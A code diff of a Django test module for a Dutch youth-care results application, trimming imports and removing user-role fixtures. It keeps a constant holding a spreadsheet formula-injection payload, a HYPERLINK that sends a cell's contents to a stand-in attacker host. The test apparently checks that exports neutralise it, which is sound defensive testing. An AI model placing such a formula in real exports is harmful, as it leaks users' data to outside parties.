@@ -9,32 +9,14 @@ import openpyxl
 import pytest
 from django.urls import reverse
 
-from jeugdhulp.accounts.models import Membership, MembershipStatus, OrganisationKind, Role
+from jeugdhulp.accounts.models import Membership, MembershipStatus
 from jeugdhulp.accounts.permissions import can, forget_scope
 from jeugdhulp.audit.models import AuditAction, AuditEvent
 from jeugdhulp.results.duiding import summary
 from jeugdhulp.results.models import AnalysisRun, Duiding, IndicatorRow, RunStatus
 from jeugdhulp.results.report import render_html
-from jeugdhulp.results.tests.test_views import store_done_run
 
 FORMULA = '=HYPERLINK("http://aanvaller.example/?"&B2,"Klik")'
-
-
-@pytest.fixture
-def done_run(db, analysed, small_inputs, make_organisation, settings, tmp_path):
-    return store_done_run(analysed, small_inputs, make_organisation, settings, tmp_path)
-
-
-@pytest.fixture
-def users(done_run, make_user, make_organisation):
-    other_region = make_organisation(OrganisationKind.IROJ, code="IROJ-ANDER")
-    return {
-        "analist": make_user(Role.ANALIST, done_run["region"]),
-        "coordinator": make_user(Role.COORDINATOR, done_run["region"]),
-        "partner": make_user(Role.MEDEWERKER_VOORZIENING, done_run["partner"]),
-        "outsider": make_user(Role.ANALIST, other_region),
-        "aanmelder": make_user(Role.AANMELDER, done_run["partner"]),
-    }
 
 
 def _urls(run, code="A00", form="ALLE"):
